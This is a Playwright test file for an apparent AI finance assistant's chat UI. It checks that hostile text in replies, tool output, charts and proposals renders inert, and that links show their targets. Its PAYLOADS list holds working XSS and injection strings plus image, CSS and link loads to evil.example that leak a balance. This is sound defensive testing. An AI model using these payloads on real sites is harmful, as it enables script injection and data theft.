"""Text from outside (replies, merchants, proposals, titles) is shown as text: no script, no image, no request."""

from __future__ import annotations

import pytest
from playwright.async_api import expect

pytestmark = pytest.mark.browser

PAYLOADS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<img src='https://evil.example/leak.png?balance=1200'>",
    "![spending](https://evil.example/leak.png?balance=1200)",
    "![a](https://evil.example/a.png 'title')",
    "[click me](javascript:window.pwned=1)",
    "[your bank](https://evil.example/login)",
    "<a href='https://evil.example' ping='https://evil.example/ping'>x</a>",
    "<svg onload='window.pwned=1'><use href='https://evil.example/s.svg#x'/></svg>",
    "<iframe src='https://evil.example'></iframe><object data='https://evil.example'></object>",
    "<style>@import url(https://evil.example/s.css);body{background:url(https://evil.example/b)}</style>",
    "<link rel=prefetch href='https://evil.example/p'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
    "`<img src=x onerror=window.pwned=1>` ```<script>window.pwned=1</script>```",
    "[x]: https://evil.example/ref\n\n![x]\n\n[x][x]",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} javascript:window.pwned=1",
    "\u202egnp.kael\u202c \u200bzero\u200bwidth \u0000 nul",
    "__proto__ constructor toString valueOf",
]


ACTING = ("img", "iframe", "object", "a", "script", "style", "link", "meta", "use", "form")

LOOK = """(acting) => ({
    acting: [...document.querySelectorAll(":is(main, dialog) :is(" + acting.join() + ")")].map((e) => e.outerHTML),
    handlers: [...document.querySelectorAll(":is(main, dialog) *")].flatMap((e) => e.getAttributeNames())
        .filter((name) => name.startsWith("on") || ["href", "src", "style", "srcset"].includes(name)),
    pwned: window.pwned ?? null,
    address: location.pathname,
})"""
"""What the page came to hold that could act: elements that load, links, handlers, and the payloads' mark."""

HARMLESS = {"acting": [], "handlers": [], "pwned": None, "address": "/"}


def say_everywhere(penny, payload):
    """Scripts a run with the payload in every text that people see."""
    proposal = penny.propose(
        None,
        None,
        text=payload,
        diff=[{"what": payload, "field": payload, "before": payload, "after": {"minor": 1, "currency": payload}}],
    )
    facts = [{"id": "f", "label": payload, "value": payload, "unit": payload}]
    series = [{"name": payload, "points": [[payload, 12.5], ["other", 3]]}]
    charts = [
        ("chart", {"call_id": "c", "kind": kind, "title": payload, "unit": payload, "series": series})
        for kind in ("bar", "donut", "line")
    ]
    penny.script(
        ("tool.started", {"call_id": "c", "name": payload, "label": payload, "args": {"merchant": payload}}),
        ("text.delta", {"text": payload[: len(payload) // 2]}),
        ("tool.finished", {"call_id": "c", "name": payload, "ok": True, "summary": payload, "facts": facts}),
        *charts,
        ("proposal", {"call_id": "c", **proposal}),
        ("run.finished", {"text": f"Look: {payload}\n\n| {payload} |\n|---|\n| {payload} |\n\n- {payload}"}),
    )


async def test_hostile_text_is_only_text(penny, visit):
    """In messages, replies, tools' words, charts, proposals and titles, live and after a reload, payloads do nothing.

    That no request left for anywhere else and that no policy was violated is checked when the visit ends.
    """
    v = await visit()
    for number, payload in enumerate(PAYLOADS, 1):
        say_everywhere(penny, payload)
        await v.say(payload)
        await expect(v.page.locator(".reply[aria-busy=false]")).to_have_count(number)
        await expect(v.page.locator(".chart svg")).to_have_count(3 * number)
        assert await v.page.evaluate(LOOK, ACTING) == HARMLESS, payload
    await v.page.reload()
    await expect(v.page.locator(".reply[aria-busy=false]")).to_have_count(len(PAYLOADS))
    await v.page.get_by_role("button", name="Your chats").click()
    await expect(v.page.get_by_role("dialog").get_by_text(PAYLOADS[0])).to_be_visible()
    assert await v.page.evaluate(LOOK, ACTING) == HARMLESS
    assert penny.confirms == []


async def test_a_link_shows_where_it_leads(penny, visit):
    """A link is its words and its target in plain sight, and an image its description and address."""
    penny.script(
        ("run.finished", {"text": "See [your bank](https://evil.example/x) or ![cat](http://a.example/c.png)"})
    )
    v = await visit()
    await v.say("?")
    await expect(v.page.locator(".reply .text")).to_have_text(
        "See your bank (https://evil.example/x) or cat (http://a.example/c.png)"
    )
